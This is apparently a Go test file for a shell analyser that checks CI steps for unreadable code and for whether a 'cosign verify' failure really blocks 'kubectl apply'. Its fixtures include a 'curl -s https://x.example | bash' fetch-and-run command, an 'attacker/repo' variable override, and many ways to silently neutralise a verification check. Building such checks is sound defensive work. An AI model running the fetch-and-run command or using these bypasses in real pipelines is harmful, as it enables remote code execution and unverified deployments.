package shell

import (
	"strings"
	"testing"
)

var kubectlValued = map[string]bool{"-n": true, "--namespace": true, "--context": true, "--kubeconfig": true}

// Commands are found however they are written: flags before the subcommand, wrappers, nested
// shells, eval, functions, here-documents, command substitutions.
func TestFindsCommandsWhereverTheyAre(t *testing.T) {
	files := map[string]string{
		".github/scripts/deploy.sh": "#!/usr/bin/env bash\nset -euo pipefail\nkubectl apply -k \"$1\"\n",
	}
	read := func(p string) ([]byte, bool) { d, ok := files[p]; return []byte(d), ok }
	tests := []struct {
		name, script string
		via          string // how the kubectl apply is reached ("" at the top level)
	}{
		{"plain", `kubectl apply -k "$OVERLAY"`, ""},
		{"boolean flag before the subcommand", `kubectl --warnings-as-errors apply -k "$OVERLAY"`, ""},
		{"valued flag before the subcommand", `kubectl -n template-api --context prod apply -f x.yaml`, ""},
		{"wrapped", `timeout 300 env KUBECONFIG=/tmp/k sudo -E kubectl apply -k o`, ""},
		{"bash -c", `bash -c 'kubectl apply -k "$OVERLAY"'`, "bash -c"},
		{"sh -ec", `sh -ec "kubectl apply -k o"`, "sh -c"},
		{"eval", `eval "kubectl apply -k o"`, "eval"},
		{"function", "deploy() { kubectl apply -k \"$1\"; }\ndeploy o", "function deploy"},
		{"subshell and block", `( cd x && { kubectl apply -k .; } )`, ""},
		{"command substitution", `out=$(kubectl apply -k o)`, "$(...)"},
		{"here-document", "bash <<'EOF'\nkubectl apply -k o\nEOF", "bash <<here-document"},
		{"xargs", `echo o | xargs -n1 kubectl apply -k`, ""},
		{"find -exec", `find k8s -name kustomization.yaml -execdir kubectl apply -k . \;`, ""},
		{"find -exec with +", `find k8s -name '*.yaml' -exec kubectl apply -f {} +`, ""},
		{"more wrappers", `setsid flock /tmp/l ionice -c 3 taskset 0x1 chrt 1 doas -u root strace -o /tmp/t watch -n 1 parallel -j 2 kubectl apply -k o`, ""},
		{"su -c", `su -c 'kubectl apply -k o' runner`, "su -c"},
		{"runuser -c", `runuser -u runner -c "kubectl apply -k o"`, "runuser -c"},
		{"script -c", `script -qc 'kubectl apply -k o' /dev/null`, "script -c"},
		{"script of the repository", `bash .github/scripts/deploy.sh k8s/overlays/staging`, "bash .github/scripts/deploy.sh"},
		{"variable holding a literal", "k=kubectl\n$k apply -k o", ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			s, err := Parse(tc.script, Options{ReadFile: read})
			if err != nil {
				t.Fatal(err)
			}
			got := s.Find("kubectl", kubectlValued, "apply")
			if len(got) != 1 {
				t.Fatalf("found %d kubectl apply in %q; commands: %v", len(got), tc.script, s.Commands)
			}
			if via := strings.Join(got[0].Via, ", "); via != tc.via {
				t.Errorf("reached via %q, want %q", via, tc.via)
			}
			if len(s.Opaque) > 0 {
				t.Errorf("opaque: %+v", s.Opaque)
			}
		})
	}
}

// A wrapper with nothing to run is the command itself: `env` alone prints the environment.
func TestWrapperAloneIsTheCommand(t *testing.T) {
	for script, want := range map[string]string{"env": "env", "env | sort": "env", "sudo env": "env", "env FOO=1": "env", "timeout 5 env": "env"} {
		s, err := Parse(script, Options{})
		if err != nil {
			t.Fatal(err)
		}
		if len(s.Commands) == 0 || s.Commands[0].Name != want {
			t.Errorf("%q: commands %v, want %s first", script, s.Commands, want)
		}
	}
}

// Code the analysis cannot read is reported, never silently skipped.
func TestReportsCodeItCannotRead(t *testing.T) {
	tests := []struct{ name, script, shell, why string }{
		{"command from a variable of unknown value", `$DEPLOY apply -k o`, "", "only known at run time"},
		{"bash -c with a script from a variable", `bash -c "$SCRIPT"`, "", "only known at run time"},
		{"eval of a variable", `eval "$CMD"`, "", "only known at run time"},
		{"a script piped into a shell", `echo "kubectl apply -k o" | bash`, "", "runs whatever echo prints"},
		{"inline python", `python3 -c 'import os; os.system("kubectl apply -k o")'`, "", "inline code"},
		{"a step in another language", `print("hello")`, "python", "not a POSIX shell"},
		{"a shell given a command first", `kubectl get pods`, "bash -c 'curl -s https://x.example | bash; exec bash {0}'", "a shell given more than its script"},
		{"a shell reading another file first", `kubectl get pods`, "bash --rcfile /tmp/rc -e {0}", "a shell given more than its script"},
		{"a login shell (profiles first)", `kubectl get pods`, "bash -l {0}", "a shell given more than its script"},
		{"a shell without the script", `kubectl get pods`, "bash -e", "a shell given more than its script"},
		{"a script that is not in the repository", `bash ./missing.sh`, "", "not a file of the repository"},
		{"a program downloaded at run time", "gh release download v1 --repo someone/tools --pattern helper\nchmod +x helper && ./helper", "", "not a file of the repository"},
		{"a program in the home folder", `~/bin/helper --apply`, "", "not a file of the repository"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			s, err := Parse(tc.script, Options{Shell: tc.shell, Env: map[string]string{"SCRIPT": "${{ inputs.script }}"}})
			if err != nil {
				t.Fatal(err)
			}
			if len(s.Opaque) == 0 || !strings.Contains(s.Opaque[0].Why, tc.why) {
				t.Fatalf("opaque = %+v, want one saying %q", s.Opaque, tc.why)
			}
		})
	}
}

func TestExpandsKnownVariables(t *testing.T) {
	s, err := Parse("identity=\"https://github.com/${GITHUB_REPOSITORY}/.github/workflows/b.yaml@refs/heads/main\"\ncosign verify --certificate-identity \"$identity\" \"${IMAGE}@${DIGEST}\"",
		Options{Env: map[string]string{"IMAGE": "${{ vars.ECR_REGISTRY }}/template-api", "GITHUB_REPOSITORY": "attacker/repo"}})
	if err != nil {
		t.Fatal(err)
	}
	c := s.Find("cosign", nil, "verify")[0]
	if got, want := c.Flag("--certificate-identity")[0].Text, "https://github.com/${GITHUB_REPOSITORY}/.github/workflows/b.yaml@refs/heads/main"; got != want {
		t.Errorf("identity %q, want %q (env: cannot override GITHUB_*)", got, want)
	}
	if got, want := c.Operands(map[string]bool{"--certificate-identity": true})[1].Text, "${{ vars.ECR_REGISTRY }}/template-api@${DIGEST}"; got != want {
		t.Errorf("image %q, want %q", got, want)
	}
}

// Does the failure of `cosign verify` fail the step? Each case is one way a script can run a
// check without it checking anything, and the ways it really does.
func TestFailsWithout(t *testing.T) {
	tests := []struct {
		name, script, shell string
		want                bool
		reason              string
	}{
		{"plain under the default bash -e", "cosign verify x\necho ok", "", true, ""},
		{"last command without errexit", "echo start\ncosign verify x", "bash {0}", true, ""},
		{"|| exit 1", "cosign verify x || exit 1\necho ok", "bash {0}", true, ""},
		{"if ! ...; then exit 1", "if ! cosign verify x; then\n  echo bad\n  exit 1\nfi\necho ok", "bash {0}", true, ""},
		{"if ...; else exit 1", "if cosign verify x; then echo ok; else exit 2; fi", "", true, ""},
		{"subshell", "( cosign verify x )\necho ok", "", true, ""},
		{"bash -c as the last command", "bash -c 'echo a; cosign verify x'\necho ok", "", true, ""},
		{"pipeline with pipefail", "cosign verify x | tee log", "bash", true, ""},
		{"set -o pipefail", "set -o pipefail\ncosign verify x | tee log", "", true, ""},
		{"assignment from a command substitution", "out=$(cosign verify x)\necho \"$out\"", "", true, ""},
		{"wrapped in timeout", "timeout 300 cosign verify x", "", true, ""},
		{"function that is called", "check() { cosign verify \"$1\"; }\ncheck x\necho ok", "", true, ""},
		{"an EXIT trap that only cleans up", "trap 'rm -f tmp || true' EXIT\ncosign verify x", "", true, ""},
		{"|| true", "cosign verify x || true", "", false, "`|| true` takes its failure over"},
		{"|| echo", "cosign verify x || echo failed", "", false, "`|| echo failed` takes its failure over"},
		{"set +e", "set +e\ncosign verify x\nset -e\necho ok", "", false, "errexit is off"},
		{"no errexit and an exit 0", "cosign verify x\nexit 0", "bash {0}", false, "errexit is off"},
		{"exit 0 trap", "trap 'exit 0' EXIT\ncosign verify x", "", false, "EXIT trap exits with success"},
		{"ERR trap that exits 0", "trap 'exit 0' ERR\ncosign verify x\necho ok", "", false, "ERR trap exits with success"},
		{"condition of an if", "if cosign verify x; then echo verified; fi", "", false, "condition of an if"},
		{"left of &&", "cosign verify x && echo verified\necho done", "", false, "left of `&&`"},
		{"negated", "! cosign verify x\necho ok", "", false, "negated"},
		{"pipeline without pipefail", "cosign verify x | tee log", "", false, "not the last command of a pipeline"},
		{"background", "cosign verify x &\necho ok", "", false, "background"},
		{"function never called", "check() { cosign verify x; }\necho ok", "", false, "without running it"},
		{"bash -c that ends with success", "bash -c 'cosign verify x; echo done'", "", false, "script that runs it ends with success"},
		{"skipped on a condition", "if [ \"$GITHUB_EVENT_NAME\" = workflow_dispatch ]; then exit 0; fi\ncosign verify x", "", false, "without running it"},
		{"exit 0 before it", "exit 0\ncosign verify x", "", false, "without running it"},
		{"local drops the status", "f() { local out=$(cosign verify x); echo \"$out\"; }\nf", "", false, "local returns success"},
		{"echo of a command substitution", "echo \"$(cosign verify x)\"", "", false, "command substitution"},
		{"in a loop over values known only at run time", "for i in $IMAGES; do cosign verify \"$i\"; done", "", false, "without running it"},
		{"exit with a status known at run time", "cosign verify x || exit \"$rc\"", "", false, "only known at run time"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			s, err := Parse(tc.script, Options{Shell: tc.shell})
			if err != nil {
				t.Fatal(err)
			}
			gates := s.Find("cosign", nil, "verify")
			if len(gates) == 0 {
				t.Fatal("no cosign verify found")
			}
			v := s.FailsWithout(gates)
			if v.OK != tc.want {
				t.Fatalf("FailsWithout = %v (%s), want %v", v.OK, v.Reason, tc.want)
			}
			if !tc.want && !strings.Contains(v.Reason, tc.reason) {
				t.Errorf("reason %q, want it to say %q", v.Reason, tc.reason)
			}
		})
	}
}

// Inside one script: can kubectl apply run when the verification fails?
func TestGuards(t *testing.T) {
	tests := []struct {
		name, script string
		want         bool
	}{
		{"verify then apply", "cosign verify x\nkubectl apply -k o", true},
		{"if ! verify; then exit", "if ! cosign verify x; then exit 1; fi\nkubectl apply -k o", true},
		{"verify && apply", "cosign verify x && kubectl apply -k o", true},
		{"apply first", "kubectl apply -k o\ncosign verify x", false},
		{"verify || true", "cosign verify x || true\nkubectl apply -k o", false},
		{"apply in the failure branch", "cosign verify x || kubectl apply -k o", false},
		{"apply in a function defined before, called after", "d() { kubectl apply -k o; }\ncosign verify x\nd", true},
		{"apply in the background before", "kubectl apply -k o &\ncosign verify x", false},
		{"apply in bash -c after a masked verify", "set +e\ncosign verify x\nbash -c 'kubectl apply -k o'", false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			s, err := Parse(tc.script, Options{})
			if err != nil {
				t.Fatal(err)
			}
			v := s.Guards(s.Find("cosign", nil, "verify"), s.Find("kubectl", kubectlValued, "apply"))
			if v.OK != tc.want {
				t.Errorf("Guards = %v (%s), want %v", v.OK, v.Reason, tc.want)
			}
		})
	}
}

func TestShellFlags(t *testing.T) {
	tests := []struct {
		shell             string
		errexit, pipefail bool
	}{
		{"", true, false},
		{"bash", true, true},
		{"sh", true, false},
		{"bash {0}", false, false},
		{"bash -e {0}", true, false},
		{"bash --noprofile --norc -eo pipefail {0}", true, true},
		{"bash -o errexit -o pipefail {0}", true, true},
		{"bash -x {0}", false, false},
	}
	for _, tc := range tests {
		_, e, p, ok := startFlags(tc.shell)
		if !ok || e != tc.errexit || p != tc.pipefail {
			t.Errorf("startFlags(%q) = errexit %v pipefail %v (ok %v), want %v %v", tc.shell, e, p, ok, tc.errexit, tc.pipefail)
		}
	}
}
